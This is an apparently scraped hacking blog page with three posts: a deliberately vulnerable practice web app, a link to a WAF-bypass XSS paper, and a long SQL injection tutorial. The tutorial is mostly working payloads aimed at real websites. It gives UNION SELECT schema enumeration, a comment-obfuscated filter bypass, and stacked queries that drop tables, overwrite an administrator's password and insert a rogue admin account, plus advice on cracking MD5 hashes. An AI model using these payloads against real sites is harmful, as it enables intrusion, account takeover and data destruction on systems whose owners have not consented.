Showing posts with label PenTesting Tutorials. Show all posts
Showing posts with label PenTesting Tutorials. Show all posts

Tuesday, December 17, 2013

BTS PenTesting Lab - a vulnerable web application to learn common vulnerabilities

The most common question from students who is learning website hacking techniques is "how to test my skills legally without getting into troubles?". Here is solution for you guys, you can learn web application Pentesting with our New app "BTS Pentesting Lab".

BTS PenTesting Lab is a vulnerable web application that allows you to learn from basic to advanced  vulnerability techniques.

Currently, the app contains following vulnerability types:

  • SQL Injection
  • Cross Site scripting(XSS)
  • Cross Site request Forgery(CSRF)
  • Clickjacking
  • Server Side Request Forgery(SSRF))
  • File Inclusion(RFI and LFI)
  • Remote Code ExecutionDownload the latest version of BTS Lab

How to run BTS PenTesting Lab?
1. Install XAMPP or WAMPP in your machine
2. Extract the zip file into the htdocs folder (make sure to rename the folder to "btslab").
3.  Open the "http://localhost/btslab/setup.php" url in your browser.
4. Click the Setup.

That's all Now you can start to use the app at"http://localhost/btslab" :)

In next update, i will add more vulnerability types and advanced techniques.  My next articles will be based on this app :)
Continue   Reading>>

Wednesday, December 11, 2013

New XSS Cheat Sheet - Bypassing Modern Web Application Firewall XSS Filters

While we doing web application penetration testing for our clients, we may some time have to face the Web application Firewall that blocks every malicious request/payload.There are some Cheat sheets available on internet that helped to bypass WAF in the past. However, those cheats won't work with the modern WAFs and latest browsers.

So, here is need for creating new Cheat sheet.

One of the top security researcher Rafay Baloch has done an excellent job by organizing his own techniques to bypass modern WAFs and published a white paper on that.

The paper titled "Modern Web Application Firewalls Fingerprinting and Bypassing XSS Filters" covers only the techniques needed for bypassing XSS filters.

Rafay promised to write other vulnerabilities' bypassing techniques in his next paper.

You can download the WhitePaper from here.
Continue   Reading>>

Saturday, February 23, 2013

SQL Injection Tutorial: All common SQL injection problems and Solutions

Hello readers of BTS,
    Today I'll write an tutorial for you what covers most problems while doing SQL injection and solutions to them. Probably every person who has looked at tutorials to hack a website have noticed that there are too much SQL tutorials. Almost every forum has 10 tutorials and blogs 5 tutorials about SQL injection, but actually those tutorials are stolen from somewhere else and the author doesn't probably even know why does SQL injection work. All of those tutorials are like textbooks with their ABC's and the result is just amess. Everyone are writing tutorials about SQL, but nobody covers the problems what will come with that attack.

What is the cause of most problems related to SQL injection?

Webdevelopers aren't always really dumb and they have also heard of hackers and have implemented some security measures like WAF or manual protetion. WAF is an Web application firewall and will block all malicous requests, but WAF's are quite easy to bypass. Nobody would like to have their site hacked and they are also implementing some security, but ofcourse it would be false to say that if we fail then it's the servers fault. There's also a huge possibility that we're injecting otherwise than we should.

A web application firewall (WAF) is an appliance, server plugin, or filter that applies a set of rules to an HTTP conversation. Generally, these rules cover common attacks such as Cross-site Scripting (XSS) and SQL Injection. By customizing the rules to your application, many attacks can be identified and blocked. The effort to perform this customization can be significant and needs to be maintained as the application is modified.

If you're interested about WAF's and how they'reworking then I suggest to read it from wikipedia

Order by is being blocked?

It rarely happens, but sometimes you can't use order by because the WAF has blocked it or some other reasons. Unfortunally we can't skip the order by and we have to find another way. The way is simple, instead of using Order by we have to use Group by because that's very unlikely to be blacklisted by the WAF.

If that request will return 'forbidden' then it means it's blocked. order by 100--
Then you have to try to use Group by and itwill return correct : group by 100-- / success
Still there's an possibility that WAF willblock the request, but there's on other way also and that's not very widely known. It's about using ( the main query ) = (select 1) and (select * fromadmins)=(select 1)
Then you'll probably recive an error like this : Operand should contain 5 column(s).

That error means there are 5 columns and it means we can proceed to our next step what's union select. The command was different than usual, but the further injection will be the same. union select 1,2,3,4,5--

'order by 10000' and still not error?

That's ansmall chapter where I'll tell you why sometimes order by won't work and you don't see an error. The difference between this capther and the last one is that previously your requests were blocked by the WAF, but here's the injection method is just a littlebit different. When I saw that on my first time then I thought how does a Database have 100000 columns because I'm not getting the error while the site is vulnerable?The answer is quite logical. By trying order by 1000000 we're not getting the error because there are so many columns in there, we're not getting the error because our injecting isn't working.

Example : order by 10000000000-- [No Error]
to bypass this you just have to change the URL littlebit.Add ' after the ID number and at the end just enter +

Example :' order by 10000000--+[Error]
If the last example is working for you then it means you have to use it in the next steps also, there isn't anything complicated, but to make everything clearI'll still make an example.' union select 1,2,3,4,5,6,7,8--+

Extracting data from other database.

Sometimes we can inject succesfully and there doesn't appear any error, it's just like a hackers dream. That dream will end at the moment when we'll see that there doesn't exist anything useful to us. There are only few tables and are called "News", "gallery" and "articles". They aren't useful at all to us because we'd like to see tables like "Admin" or "Administrator". Still we know that the server probably has several databasesand even if we have found the information we're looking for, you should still take a look in the other databases also.

This will give you Schema names. union select 1,2,group_concat(schema_name),4 from information_schema.schemata

And with this code you can get the tables from the schema. union select 1,2,group_concat(table_name),4 frominformation_schema.tables where table_schema=0x

This code will give you the column names. union select 1,2,group_concat(column_name),4 from information_schema.tables where table_schema=0x and table_name=0x

I get error if I try to extract tables. union select 1,2,group_concat(table_name),4 from information_schema.tables

Le wild Error appears.
"you have an error in your sql syntax near '' at line 1"
Change the URL for this union select 1,2,concat(unhex(hex(table_name),4 from information_schema.tables limit 0,1--

How to bypass WAF/Web application firewall

The biggest reason why most of reasons are appearing are because of security measures added to the server and WAF is the biggest reason, but mostly they're made really badly and can be bypassed really easily. Mostly you will get error 404 like it's in the code below, this is WAF. Most likely persons who're into SQL injection and bypassing WAF's are thinking at the moment "Dude, only one bypassing method?", but in this case we both know that bypassing WAF's is different kind of science and I could write a ebook on bypassing these. I'll keep all those bypassing queries to another time and won't cover that this time.

"404 forbidden you do not have permission to access to this webpage"The code will look like this if you get theerror,2,3,4,5--

Change the url Like it's below.*!UnIoN*/+/*!sELeCt*/1,2,3,4,5--
[No error]

Is it possible to modify the information in the database by SQL injection?

Most of people aren't aware of it, but it's possible. You're able to Update, Drop, insert and select information. Most of people who're dealing with SQL injection has never looked deeper in the attack than shown in the average SQL injection tutorial, but an average SQL injection tutorial doesn't have those statements added. Most likely because most of people are copy&pasting tutorials or just overwriting them. You might ask that why should one update, drop or insert information into the database if I can just look into the information to use the current ones, why should we make another Administrator account if there already exists one?

Reading the information is just one part of the injection and sometimes those other commands what are quite infamous are more powerful than we thought. If you have read all those avalible SQL injection tutorials then you're probably aware that you can read the information, but you didn't knew you're able to modify it. If you have tried SQL injecting then you have probably faced some problems that there aren't administrator account, why notto use the Insert command to add one? There aren't admin page to login, why not to drop the table and all information so nobody could access it? I want to get rid of the current Administrator and can't change his password, why not to use the update commands to change the password of the Administrator?

You have probably noticed that I have talked alot about unneccesary information what you probably don't need to know, but that's an information you need to learn and understand to become a real hacker because you have to learn how SQL databases are working to fiqure it out how those commands are working because you can't find tutorials about it from the network. It's just like math you learn in school, if you won't learn it then you'll be in trouble when you grow up.

Theory is almost over and now let's get to the practice.

Let's say that we're visiting that page and it's vulnerable to SQL injection.

You have to start injecting to look at the tables and columns in them, but let's assume that the current table is named as "News".
With SQL injection you can SELECT, DROP, UPDATE and INSERT information to the database. The SELECT is probably already covered at all the tutorials so let's focus on the other three. Let's start with the DROP command.

I'd like to get rid of a table, how to do it?; DROP TABLE news

That seems easy, we have just dropped the table. I'd explain what we did in the above statement, but it's quite hard to explain it because you all can understand the above command. Unfortunally most of 'hackers' who're making tutorials on SQL injection aren't aware of it and sometimes that three words are more important than all theinformation we can read on some tutorials.

Let's head to the next statement what's UPDATE.; UPDATE 'Table name' SET 'data you want to edit' = 'new data' WHERE column_name='information'--

Above explanation might be quite confusing so I'll add an query what you're most likely going to use in real life :; UPDATE 'admin_login' SET 'password' = 'Crackhackforum' WHERE login_name='Rynaldo'--

We have just updated Administrator account's password.In the above example we updated the column called 'admin_login" and added a password what is "Crackhackforum" and that credentials belongs to account which's username is Rynaldo. Kinda heavy to explain, but I hope you'll understand.

How does INSERT work?

Luckily "INSERT" isn't that easy as the "DROP" statement is, but still quite understandable. Let's go further with Administrator privileges because that's what most of people are heading to. Adding an administrator account would be likethis :; INSERT INTO 'admin_login' ('login_id', 'login_name', 'password', 'details') VALUES (2,'Rynaldo','Crackhackforum','NA')--

INSERT INTO 'admin_login' means that we're inserting something to 'admin_login'. Now we have to give instructions to the database what exact information we want to add, ('login_id', 'login_name', 'password', 'details') means that the specifications we're adding to the DB are Login_id, Login_name, password and details and those are the information the database needs to create a new account. So far we have told the database what information we want to add, we want to add new account, password to it, account ID and details. Now we have to tell the database what will be the new account's username, it's password and account ID, VALUES (2,'Rynaldo','Crackhackforum','NA')-- . That means account ID is 2, username will be Rynaldo, password of the account will be Crackhackforum. Your new account has been added to the database and all you have to dois opening up the Administrator page and login.

Passwords aren't working

Sometimes the site is vulnerable to SQL and you can get the passwords.Then you can find the sites username and password, but when you enter it into adminpanel then it shows "Wrong password".This can be because those usernames and passwords are there, but aren't working. This is made by site's admin to confuse you and actually the Cpanel doesn't contain any username/password. Sometimes are accounts removed, but the accounts are still in the database. Sometimes it isn't made by the admin and those credentials has been left in the database after removing the login page, sometimes the real credentials has been transfered to another database and old entries hasn't been deleted.

Sometimes i get some weird password

This weird password is called Hash and most likely it's MD5 hash.That means the sites admin has added more security to the website andhas encrypted the passwords.Most popular crypting way is using MD5 hash.The best way to crack MD5 hashes is using PasswordsPro or Hashcat because they're the best and can crackthe password even if it's really hard or isn't MD5. Also you can use .I don't like to be a person who's pitching around with small details what aren't correct, but here's an tip what you should keep in mind. The domain is saying it's "md5decryptor" what reffers to decrypting MD5 hashes. Actually it's not possible to decrypt a hash because they're having 'one-way' encryption. One way encryption means it can only be encrypted, but not decrypted. Still it doesn't mean that we can't know what does the hash mean, we have to crack it. Hashes can't be decrypted, only cracked. Those online sites aren't cracking hashes every time, they're saving already cracked hashes & results to their database and if you'll ask an hash what's already in their database, you will get the result. :)

